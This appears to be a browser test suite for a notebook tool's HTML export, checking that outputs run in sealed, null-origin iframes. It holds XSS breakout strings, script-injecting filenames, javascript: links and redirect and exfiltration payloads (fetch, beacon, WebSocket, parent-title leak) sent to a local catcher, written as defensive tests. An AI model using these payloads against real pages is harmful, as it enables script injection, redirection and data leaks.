import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterEach, beforeEach, expect, test } from "vitest";
import type { Frame, Tab } from "../drivers";
import { NotebookPage } from "../notebook";
import { until } from "../page";
import { Catcher } from "../probes/catcher";
import { inBrowsers, inOneBrowser, type Stage } from "../stage";
import { type CellSource, html, printed } from "../world";

/// Each tells the catcher by its name. What leads away has a frame of its own.
const ATTACKS: Readonly<Record<string, (to: string) => string>> = {
  "top-script": (to) => `<script>top.location = "${to}"</script>`,
  "top-link": (to) => `<a id=l target=_top href="${to}">x</a><script>l.click()</script>`,
  "self-script": (to) => `<script>location.href = "${to}"</script>`,
  "self-refresh": (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  "self-form": (to) => `<form id=f method=post action="${to}"><input name=a></form><script>f.submit()</script>`,
  popup: (to) => `<script>window.open("${to}")</script>`,
  "frame-in-it": (to) => `<iframe src="${to}"></iframe><object data="${to}"></object><embed src="${to}">`,
  loads: (to) => `<img src="${to}&img"><link rel=stylesheet href="${to}&css"><script src="${to}&js"></script>
    <video src="${to}&video" autoplay></video><link rel=prefetch href="${to}&prefetch"><div style="background: url(${to}&bg)">x</div>
    <style>@import "${to}&import"; @font-face { font-family: f; src: url(${to}&font) } p { font-family: f }</style><p>x</p>`,
  calls: (to) => `<script>
    const safely = (act) => { try { const made = act(); made?.catch?.(() => {}); } catch {} };
    safely(() => fetch("${to}&fetch", { mode: "no-cors", method: "POST", body: "a" }));
    safely(() => navigator.sendBeacon("${to}&beacon", "a"));
    safely(() => new WebSocket("${to}&ws".replace("http", "ws")));
    safely(() => new EventSource("${to}&events"));
    safely(() => import("${to}&module"));
    safely(() => { const x = new XMLHttpRequest(); x.open("GET", "${to}&xhr"); x.send(); });
    safely(() => new Worker(URL.createObjectURL(new Blob(['fetch("${to}&worker", { mode: "no-cors" })']))));
  </script>`,
  reads: (to) =>
    `<script>try { new Image().src = "${to}&" + parent.document.title; fetch("${to}&read", { mode: "no-cors" }) } catch {}</script>`,
};
/// A browser keeps pop-ups down without a click, and files from each other, sealed or not.
const TAME: readonly string[] = ["popup", "reads"];
const PLANT = `"'></pre></p></title></script></template><script>top.planted = (top.planted || 0) + 1</script><img src=x onerror="top.planted = 1">`;

const LIVE =
  html(`<p id=one></p><p id=two onclick="this.textContent = 'clicked'">two</p><p id=three></p><div style="height: 700px"></div>
  <script>
    document.querySelector("#one").textContent = eval("'ev' + 'al'") + (document.currentScript ? " here" : "");
    document.querySelector("#two").click();
    const made = document.createElement("script");
    made.textContent = 'document.querySelector("#three").textContent = "made"';
    document.body.append(made);
  </script>`);

const SLIDER = {
  look: { model_name: "LayoutModel", model_module: "@jupyter-widgets/base", state: {} },
  style: { model_name: "SliderStyleModel", model_module: "@jupyter-widgets/controls", state: {} },
  slider: {
    model_name: "IntSliderModel",
    model_module: "@jupyter-widgets/controls",
    state: { value: 42, description: "size", layout: "IPY_MODEL_look", style: "IPY_MODEL_style" },
  },
};
const shown = (data: object) => ({
  output_type: "display_data",
  data: { ...data, "text/plain": "text" },
  metadata: {},
});
/// What needs a plugin of ours, cheaply: its frame is of the other kind.
const FORMULA = shown({ "text/markdown": "**so** $x^2$" });
/// In each drawing frame, what shows that it is drawn.
const DRAWN: readonly (readonly [object, string])[] = [
  [{ "text/markdown": "so $x^2$" }, ".katex"],
  [
    {
      "application/vnd.vegalite.v5+json": {
        data: { values: [{ a: "A", b: 28 }] },
        mark: "bar",
        encoding: { x: { field: "a", type: "nominal" }, y: { field: "b", type: "quantitative" } },
      },
    },
    ".vega svg, .vega canvas",
  ],
  [{ "application/vnd.plotly.v1+json": { data: [{ x: [1, 2], y: [2, 1] }], layout: {} } }, ".plotly svg.main-svg"],
  [
    { "application/vnd.jupyter.widget-view+json": { model_id: "slider", version_major: 2, version_minor: 0 } },
    ".widget-slider .noUi-handle",
  ],
];

/// As if nothing sealed it: how an attack shows that it is one.
const unsealed = (text: string) =>
  text
    .replaceAll(/<meta http-equiv="Content-Security-Policy"[^>]*>/g, "")
    .replaceAll(/&lt;meta http-equiv=&quot;Content-Security-Policy&quot;.*?&gt;/g, "")
    .replaceAll(' sandbox="allow-scripts"', "");

inBrowsers("an exported notebook", (stage) => {
  let catcher: Catcher;
  const tabs: Tab[] = [];
  beforeEach(async () => {
    catcher = await Catcher.start();
  });
  afterEach(async () => {
    catcher.stop();
    await Promise.all(tabs.splice(0).map((tab) => tab.close().catch(() => undefined)));
  });
  const exported = async (cells: readonly (string | CellSource)[], name = "odd.ipynb", metadata = {}) => {
    const path = stage.world.notebook(name, cells, metadata);
    const file = join(stage.world.folder, "out.html");
    await stage.world.hood("export", path, "--to", "html", "-o", file, "--force");
    return file;
  };
  const open = async ({ browser }: Stage, file: string) => {
    const tab = await browser.open(pathToFileURL(file).href);
    tabs.push(tab);
    return tab;
  };
  const frameWith = (tab: Tab, css: string): Promise<Frame> =>
    until(`a frame with ${css}`, async () => {
      for (const frame of await tab.frames())
        if (await frame.evaluate((found: string) => document.querySelector(found) !== null, css)) return frame;
      return null;
    });

  test("shows what is static in the page, what acts in sealed frames of its height, and runs nothing of the notebook beside it", async () => {
    const file = await exported([
      {
        type: "markdown",
        source: "# Title\n\n- *one*\n- `two`\n\n[link](https://example.org) [bad](javascript:alert(1))",
      },
      { source: "print(1)", outputs: [printed("plain \x1b[31mred\x1b[0m text\n")] },
      { source: "plot()", outputs: [LIVE] },
    ]);
    const tab = await open(stage, file);
    const frame = await frameWith(tab, "#three");
    await until("its scripts ran", () =>
      frame.evaluate(() => document.querySelector("#three")?.textContent === "made"),
    );
    expect(await frame.evaluate(() => ["one", "two"].map((id) => document.getElementById(id)?.textContent))).toEqual([
      "eval here",
      "clicked",
    ]);
    await until("the frame has its height", () =>
      tab.evaluate(() => (document.querySelector("iframe")?.clientHeight ?? 0) > 700),
    );
    expect(
      await tab.evaluate(() => ({
        heading: document.querySelector(".markdown h1")?.textContent ?? "",
        items: document.querySelectorAll(".markdown li").length,
        links: [...document.querySelectorAll(".markdown a")].map((link) => link.getAttribute("href")),
        red: document.querySelector(".a-fg-1")?.textContent ?? "",
        scripts: document.scripts.length,
        sandbox: document.querySelector("iframe")?.getAttribute("sandbox") ?? "",
      })),
    ).toEqual({
      heading: "Title",
      items: 2,
      links: ["https://example.org"],
      red: "red",
      scripts: 1,
      sandbox: "allow-scripts",
    });
    expect(await frame.evaluate(() => self.origin)).toBe("null");
  });

  test("draws formulas, charts and saved widgets from what the file carries, once for all", async () => {
    const widgets = {
      "application/vnd.jupyter.widget-state+json": { state: SLIDER, version_major: 2, version_minor: 0 },
    };
    const cells = [
      { type: "markdown" as const, source: "Here $y^2$ and\n\n$$\n\\frac{1}{2}\n$$\n" },
      { source: "latex", outputs: [shown({ "text/latex": "$\\sqrt{x}$" })] },
      ...DRAWN.map(([data]) => ({
        source: "1",
        outputs: [html(`<button onclick="this.title = 'pressed'">b</button>`), shown(data)],
      })),
    ];
    const file = await exported(cells, "drawn.ipynb", { widgets });
    const carried = [...readFileSync(file, "utf8").matchAll(/"([\w.-]+\.js)": "H4s/g)].map(([, name]) => name);
    expect(carried.filter((name) => name?.startsWith("plotly")).length, "the library and what speaks to it").toBe(2);
    expect(carried.length, "each once").toBe(new Set(carried).size);
    const tab = await open(stage, file);
    await until("formulas of the page", () =>
      tab.evaluate(() => document.querySelectorAll("main .katex").length === 3),
    );
    for (const [, css] of DRAWN) {
      const frame = await frameWith(tab, css);
      expect(await frame.evaluate(() => self.origin)).toBe("null");
      // A handler in an attribute is made one of a script's.
      await until("a press is heard", () =>
        frame.evaluate(() => {
          const button = document.querySelector<HTMLElement>("button[onclick], #outputs button");
          button?.click();
          return button?.title === "pressed";
        }),
      );
    }
    await until("frames as high as what they show", () =>
      tab.evaluate(() => [...document.querySelectorAll("iframe")].every((one) => one.style.height !== "")),
    );
  });

  test("plants nothing in the page around the frames, whatever names, texts and Markdown say", async () => {
    const picture = { "image/png": "iVBORw0KGgo=", "text/plain": PLANT };
    const file = await exported(
      [
        {
          type: "markdown",
          source: `# ${PLANT.replaceAll(/<[^>]*>/g, "&lt;script&gt;")}\n\n![${"x"}](data:text/html,x "t")`,
        },
        { type: "markdown", source: PLANT },
        { type: "raw", source: PLANT },
        {
          source: PLANT,
          outputs: [
            printed(`${PLANT}\x1b[38;2;1;2;3m${PLANT}\x1b]8;;javascript:alert(1)\x07link`),
            { output_type: "error", ename: PLANT, evalue: PLANT, traceback: [PLANT] },
            { output_type: "display_data", data: picture, metadata: { "image/png": { width: PLANT } } },
            { output_type: "display_data", data: { "application/json": { [PLANT]: PLANT } }, metadata: {} },
            { output_type: "display_data", data: { [PLANT]: PLANT }, metadata: {} },
            { output_type: "display_data", data: { "text/latex": PLANT }, metadata: {} },
            html(`${PLANT}<!--<script>`),
          ],
        },
      ],
      `a${"'><img src=x onerror=top.planted=1>".replaceAll("/", "")}.ipynb`,
    );
    const tab = await open(stage, file);
    await tab.evaluate(() => scrollTo(0, document.documentElement.scrollHeight));
    await frameWith(tab, "#outputs .output");
    expect(
      await tab.evaluate(() => ({
        planted: "planted" in window,
        scripts: [...document.scripts].filter((one) => one.type !== "application/json").length,
        pictures: [...document.images].map((one) => one.getAttribute("src")?.slice(0, 15)),
        handlers: [...document.querySelectorAll("*")].filter((one) =>
          [...one.attributes].some(({ name }) => name.startsWith("on")),
        ).length,
        frames: [...document.querySelectorAll("iframe")].map((one) => one.getAttribute("sandbox")),
      })),
    ).toEqual({
      planted: false,
      scripts: 1,
      pictures: ["data:image/png;"],
      handlers: 0,
      frames: ["allow-scripts", "allow-scripts"],
    });
  });

  test("lets none of its outputs send anything, leave, or lead the page away, which they do where nothing seals them", async () => {
    const names = Object.keys(ATTACKS);
    const cells = (sealed: boolean, beside: readonly object[] = []) =>
      names.map((name) => ({
        source: name,
        outputs: [
          html((ATTACKS[name] as (to: string) => string)(`${catcher.origin}/?${name}-${sealed ? "sealed" : "open"}`)),
          ...beside,
        ],
      }));
    for (const [index, name] of names.entries()) {
      if (TAME.includes(name)) continue;
      // One at a time: one that leads the page away ends the others.
      const file = await exported([cells(false)[index] as CellSource]);
      writeFileSync(file, unsealed(readFileSync(file, "utf8")));
      await open(stage, file);
      await until(`${name} arrives where nothing is sealed`, async () => catcher.got(`${name}-open`));
    }
    // Both kinds of frames.
    const tab = await open(stage, await exported([...cells(true), ...cells(true, [FORMULA])]));
    const before = await stage.browser.count();
    for (let at = 0; at < 2 * names.length; at++)
      await tab.evaluate(
        (index: number) => document.querySelectorAll("iframe")[index]?.scrollIntoView({ behavior: "instant" }),
        at,
      );
    // Behind all of them: what they had sent had arrived before.
    await until("the last frame has its height", () =>
      tab.evaluate(() => [...document.querySelectorAll("iframe")].at(-1)?.style.height !== ""),
    );
    expect(names.filter((name) => catcher.got(`${name}-sealed`))).toEqual([]);
    expect(await tab.url()).toContain("out.html");
    expect(await stage.browser.count()).toBe(before);
  });
});

inOneBrowser("a notebook on the page", (stage) => {
  test("is exported as it is now, and printed without the page around it", async () => {
    const path = stage.world.notebook("now.ipynb", ["print('made ' + 'now')"]);
    const notebook = await NotebookPage.open(stage.world, stage.browser, path);
    await notebook.run("cell-0");
    await notebook.says("cell-0", "made now");
    const before = await stage.browser.saved();
    await notebook.command("Export as HTML");
    await until("the file is saved", async () => (await stage.browser.saved()) === before + 1);
    const shown = await notebook.page.evaluate(() => {
      // What the rules for paper say, without a printer.
      const rules = [...document.styleSheets].flatMap((sheet) => [...sheet.cssRules]);
      const print = rules.filter((rule) => rule instanceof CSSMediaRule && rule.conditionText === "print");
      for (const rule of print) (rule as CSSMediaRule).media.mediaText = "screen";
      return [".top", ".status", ".cell", ".out-row"].map((css) => {
        const found = document.querySelector(css);
        return found === null ? "none" : found.getClientRects().length > 0 ? "shown" : "hidden";
      });
    });
    expect(shown).toEqual(["hidden", "hidden", "shown", "shown"]);
  });

  test("is put on paper whole and in light colours, with the outputs that were never looked at", async () => {
    const cells = Array.from({ length: 30 }, (_, at) => ({
      source: String(at),
      outputs: [html(`<div style="height: 300px">output ${at}</div>`)],
    }));
    const path = stage.world.notebook("long.ipynb", [...cells, { type: "markdown", source: "**the end**" }]);
    const notebook = await NotebookPage.open(stage.world, stage.browser, path, { dark: true });
    const { page } = notebook;
    const state = () =>
      page.evaluate(() => ({
        theme: document.documentElement.dataset.theme ?? "",
        frames: document.querySelectorAll(".guest-host iframe").length,
        low: [...document.querySelectorAll(".guest-host")].filter((one) => one.clientHeight < 300).length,
        end: document.querySelector(".cell[data-type=markdown] strong")?.textContent ?? "",
      }));
    const before = await state();
    expect([before.theme, before.frames < cells.length]).toEqual(["dark", true]);
    // A dialog that stays open, as a person's does.
    await page.evaluate(() => {
      window.print = () => void dispatchEvent(new Event("beforeprint"));
    });
    await notebook.command("Print");
    await until("everything is there", async () => (await state()).frames === cells.length);
    await until("every output is drawn, in light colours", async () => {
      const looks = await Promise.all(
        (await page.tab.frames()).map((frame) =>
          frame.evaluate(() => [
            document.querySelector("#outputs")?.textContent,
            document.documentElement.dataset.theme,
          ]),
        ),
      );
      return (
        new Set(looks.filter(([text]) => text).map(([text, theme]) => `${text} ${theme}`)).size === cells.length &&
        looks.every(([text, theme]) => !text || theme === "light")
      );
    });
    await until("the dialog of the notebook is gone", () =>
      page.evaluate(() => document.querySelector("dialog") === null),
    );
    expect(await state()).toEqual({ theme: "light", frames: cells.length, low: 0, end: "the end" });
    await page.evaluate(() => void dispatchEvent(new Event("afterprint")));
    await until("it is as it was", async () => {
      const { theme, frames } = await state();
      return theme === "dark" && frames <= 24;
    });
  });
});
